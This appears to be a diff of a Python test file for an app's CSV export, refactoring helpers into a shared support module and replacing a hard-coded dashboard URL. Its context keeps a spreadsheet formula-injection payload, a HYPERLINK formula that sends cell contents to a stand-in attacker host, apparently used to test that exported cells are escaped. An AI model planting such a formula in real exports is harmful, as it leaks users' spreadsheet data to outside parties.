@@ -18,11 +18,9 @@ from agencies.roster import services as roster_services
 from network import selectors, standards
 from network.csvexport import FORMULA_START, csv_cell, csv_writer
 from network.models import Network, Vocabulary
-from tests.support import log_encounter, make_user, open_activation
+from tests.support import ROOT, agency_url, app_modules, log_encounter, make_user, open_activation
 from tests.test_reporting import published
 
-ROOT = Path(__file__).resolve().parent.parent
-NOT_APP_CODE = {".venv", ".data", ".git", "tests", "static", "benchmarks", "templates", "node_modules"}
 THE_WRITER = Path("network/csvexport.py")
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
@@ -48,13 +46,6 @@ def csv_writer_calls(source: str) -> list[int]:
         ):
             lines.append(node.lineno)
     return lines
-
-
-def app_modules():
-    for path in sorted(ROOT.rglob("*.py")):
-        relative = path.relative_to(ROOT)
-        if relative.parts[0] not in NOT_APP_CODE:
-            yield relative
 
 
 def test_the_writer_detector_finds_every_spelling_of_csv_writer():
@@ -144,7 +135,7 @@ def test_dashboard_csvs_escape_labels_the_state_admin_typed(client, world):
     standards.standard_publish(actor=world.state_admin, network=network, terms=terms)
     published(world)  # leadership CSVs show published periods only, with the labels of their publication
 
-    for user, url in ((world.a[Role.CHIEF], f"/a/{world.agency_a.slug}/dashboard/export.csv"),
+    for user, url in ((world.a[Role.CHIEF], agency_url(world.agency_a, "agency_dashboard_csv")),
                       (world.state_admin, "/network/dashboard/export.csv")):  # fmt: skip
         client.force_login(user)
         rows = list(csv.reader(io.StringIO(client.get(url).content.decode())))
